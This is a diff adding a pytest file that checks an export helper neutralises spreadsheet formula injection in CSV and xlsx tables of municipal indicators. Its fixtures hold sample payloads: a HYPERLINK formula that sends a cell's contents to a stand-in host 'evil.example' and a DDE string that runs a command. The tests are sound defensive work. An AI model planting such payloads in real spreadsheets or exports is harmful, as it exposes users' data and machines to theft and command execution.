@@ -1,0 +1,132 @@
+"""Reader's tables: texts that look like formulas stay text in CSV and xlsx; numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from helpers.export import csv_safe_frame, looks_like_formula, neutralise_text, write_tables
+from helpers.tables import read_csv, write_csv
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+DDE = "=cmd|' /C calc'!A0"
+NAMES = [
+    HYPERLINK,
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "市民活動支援",
+]
+
+
+# a bare carriage return becomes a line feed in reader's tables (see helpers.export.reader_text)
+READER_NAMES = [n.replace("\r", "\n") for n in NAMES]
+
+
+def _tables() -> dict[str, pd.DataFrame]:
+    metrics = pd.DataFrame(
+        {
+            "kpi_id": ["1-1", "1-2"],
+            "indicator": [HYPERLINK, "市民活動支援センター来場者数"],
+            "change_pt": pd.array([-2.2, None], dtype="Float64"),
+            "value": [-5.0, 9718.0],
+            "note": [DDE, None],
+            "met": pd.array([False, None], dtype="boolean"),
+        }
+    )
+    items = pd.DataFrame(
+        {
+            "item_no": list(range(1, len(NAMES) + 1)),
+            "item_name": NAMES,
+            "status": ["S", "A", "B", "A", "A", "A", "B", "S"],
+        }
+    )
+    return {"metrics": metrics, "items": items}
+
+
+@pytest.fixture
+def written(tmp_path):
+    paths = write_tables(
+        _tables(), tmp_path, "tables.xlsx", {"metrics": "成果指標", "items": "取組"}
+    )
+    return tmp_path, paths
+
+
+@pytest.mark.parametrize("text", NAMES[:-1] + [DDE])
+def test_formula_like_texts_are_recognised(text):
+    assert looks_like_formula(text)
+    assert neutralise_text(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "text", ["市民活動支援", "9,718人", "−2.2ポイント", "－", "", "'=quoted", "a=b"]
+)
+def test_ordinary_texts_are_left_alone(text):
+    assert neutralise_text(text) == text
+
+
+def test_numbers_are_not_touched():
+    assert neutralise_text(-2.2) == -2.2
+    df = csv_safe_frame(pd.DataFrame({"x": [-2.2, 3.0], "t": ["-1", "ok"]}))
+    assert df["x"].tolist() == [-2.2, 3.0]
+    assert df["t"].tolist() == ["'-1", "ok"]
+
+
+def test_workbook_has_no_formula_and_keeps_the_text(written):
+    tmp, _ = written
+    wb = openpyxl.load_workbook(tmp / "tables.xlsx")
+    assert wb.sheetnames == ["成果指標", "取組"]
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    items = wb["取組"]
+    names = [items.cell(row=r, column=2).value for r in range(2, len(NAMES) + 2)]
+    assert names == READER_NAMES
+    assert items.cell(row=2, column=2).quotePrefix  # =HYPERLINK marked as text, as Excel does
+    assert not items.cell(row=9, column=2).quotePrefix  # an ordinary name is not
+    m = wb["成果指標"]
+    header = [c.value for c in m[1]]
+    row = {h: c for h, c in zip(header, m[2], strict=True)}
+    assert row["indicator"].value == HYPERLINK and row["indicator"].data_type == "s"
+    assert row["note"].value == DDE and row["note"].data_type == "s"
+    # numbers stay numbers: −2.2 is the number −2.2
+    assert row["change_pt"].value == pytest.approx(-2.2) and row["change_pt"].data_type == "n"
+    assert row["value"].value == -5 and row["value"].data_type == "n"
+
+
+def test_csv_cells_that_look_like_formulas_start_with_a_quote(written):
+    tmp, _ = written
+    raw = (tmp / "items.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
+    with open(tmp / "items.csv", encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    got = [r["item_name"] for r in rows]
+    assert got[:-1] == ["'" + n for n in READER_NAMES[:-1]]
+    assert got[-1] == "市民活動支援"
+    with open(tmp / "metrics.csv", encoding="utf-8-sig", newline="") as fh:
+        m = list(csv.DictReader(fh))
+    assert m[0]["indicator"] == "'" + HYPERLINK
+    assert m[0]["note"] == "'" + DDE
+    assert m[0]["change_pt"] == "-2.2"  # a number, written as a number
+    assert m[0]["value"] == "-5"
+    assert m[1]["change_pt"] == ""  # missing stays empty, never 0
+
+
+def test_processed_csv_keeps_texts_exactly(tmp_path):
+    """data/processed is read by code: tables.write_csv does not neutralise."""
+    df = pd.DataFrame({"item_name": [HYPERLINK, DDE]})
+    write_csv(df, tmp_path / "items.csv")
+    assert read_csv(tmp_path / "items.csv")["item_name"].tolist() == [HYPERLINK, DDE]
+
+
+def test_write_tables_returns_every_file(written):
+    tmp, paths = written
+    assert [p.name for p in paths] == ["metrics.csv", "items.csv", "tables.xlsx"]
+    assert all(p.parent == tmp for p in paths)
